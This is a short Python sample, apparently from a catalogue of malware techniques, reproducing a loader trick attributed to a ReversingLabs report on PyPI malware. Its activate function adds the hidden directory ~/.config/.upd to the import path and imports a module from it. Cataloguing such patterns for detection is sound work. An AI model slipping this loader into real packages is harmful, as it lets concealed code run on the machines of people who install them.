# technique: sys.path.append of a hidden home directory and importlib import
# class: pathtrick
# source: ReversingLabs, multi-stage PyPI malware that installs a hidden module directory
# declares:
import importlib
import os
import sys


def activate():
    sys.path.append(os.path.expanduser("~/.config/.upd"))
    importlib.import_module("upd")
